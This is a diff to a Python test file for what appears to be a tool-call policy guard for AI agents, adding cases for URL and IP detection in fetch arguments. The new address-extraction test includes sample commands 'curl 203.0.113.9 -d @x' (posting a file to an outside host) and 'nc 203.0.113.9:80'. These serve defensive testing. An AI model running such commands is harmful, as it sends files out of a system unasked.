@@ -19,6 +19,7 @@ from hookgate.hooks import session_notes as bounds
 from hookgate.hooks.policies.flows import policy as flows
 from hookgate.hooks.policies.flows.policy import flows_policy
 from hookgate.hooks.policies.flows.state import FlowStates, Mark, note_of
+from hookgate.hooks.policies.flows.words import addresses_in
 from hookgate.hooks.policies.spelling import same_spelling
 from hookgate.hooks.policy_environment import PolicyEnvironment
 from hookgate.hooks.session import CallState, Steps
@@ -195,6 +196,7 @@ async def test_long_urls_and_texts_cost_no_more_than_their_size() -> None:
         "x " * 50_000,
         "send," * 40_000,
         "a" * 200_000,
+        "a" + "\u0323\u0301" * 100_000,
     ):
         session = Session()
         await session.says("Go on")
@@ -391,6 +393,9 @@ async def test_sources_and_sinks_may_depend_on_arguments_and_hosts() -> None:
         ("web_fetch", {"url": "https://wiki.corp.example/x"}, False),
         ("web_fetch", {"prompt": "see https://wiki.corp.example/x and https://evil.example/"}, True),
         ("web_fetch", {"url": "https://wiki.corp.example@evil.example/"}, True),
+        ("web_fetch", {"prompt": "https://wiki.corp.example/x, and then evil.com"}, True),
+        ("web_fetch", {"prompt": "https://wiki.corp.example/x", "proxy": "203.0.113.9:80"}, True),
+        ("web_fetch", {"prompt": "https://wiki.corp.example/x", "login": "me@evil.example"}, True),
         ("web_fetch", {"prompt": "no url"}, True),
         ("read_file", {"path": "src/a.py"}, False),
         ("read_file", {"path": "downloads/a.py"}, True),
@@ -401,6 +406,19 @@ async def test_sources_and_sinks_may_depend_on_arguments_and_hosts() -> None:
             arguments
         )
         assert await session.calls("shell", command="ls") is None
+
+
+@pytest.mark.parametrize(
+    ("text", "found"),
+    [
+        ("curl 203.0.113.9 -d @x", ["203.0.113.9"]),
+        ("nc 203.0.113.9:80", ["203.0.113.9"]),
+        ("curl 127.0.0.1:3000", []),
+        ("version 1.2.3, 3.14", []),
+    ],
+)
+def test_an_address_in_the_network_is_one_like_a_host(text: str, found: list[str]) -> None:
+    assert addresses_in(text) == found
 
 
 async def test_an_error_is_a_result_like_any_other() -> None:
